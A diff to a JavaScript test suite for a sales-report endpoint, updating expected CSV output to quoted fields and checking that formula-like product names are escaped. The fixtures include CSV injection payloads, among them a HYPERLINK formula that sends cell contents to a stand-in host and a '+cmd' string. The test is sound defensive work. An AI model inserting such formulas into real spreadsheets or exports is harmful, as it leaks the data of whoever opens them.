@@ -108,9 +108,9 @@ describe('GET /api/reports/sales', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM: spreadsheets read the accents as UTF-8
     const text = new TextDecoder().decode(bytes)
     const [header, ...lines] = text.trimEnd().split('\r\n')
-    expect(header).toBe('clave,nombre,pedidos,cantidad,ventas')
+    expect(header).toBe('"clave","nombre","pedidos","cantidad","ventas"')
     const json = await report('from=2026-11-20&to=2026-11-21&groupBy=payment')
-    expect(lines.map((l) => l.split(','))).toEqual(json.rows.map((r) => [r.key, r.label, String(r.orders), String(r.quantity), String(r.revenue)]))
+    expect(lines).toEqual(json.rows.map((r) => `"${r.key}","${r.label}",${r.orders},${r.quantity},${r.revenue}`))
   })
 
   test('a name that looks like a formula stays text in the CSV', async () => {
@@ -122,10 +122,10 @@ describe('GET /api/reports/sales', () => {
     }
     const text = await (await t.request('/api/reports/sales?from=2026-11-23&to=2026-11-23&groupBy=product&format=csv', { headers: { cookie } })).text()
     expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"") (punto de venta)"`)
-    expect(text).toContain(",'+cmd (punto de venta),")
-    expect(text).toContain(",'-2+3 (punto de venta),")
-    expect(text).toContain(",'@SUM(A1) (punto de venta),")
-    expect(text).not.toMatch(/(^|,)[=+\-@]/m)
+    expect(text).toContain(`,"'+cmd (punto de venta)",`)
+    expect(text).toContain(`,"'-2+3 (punto de venta)",`)
+    expect(text).toContain(`,"'@SUM(A1) (punto de venta)",`)
+    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m)
   })
 
   test('bad dates, ranges and groupBy: 400 in Spanish; signed out: 401', async () => {
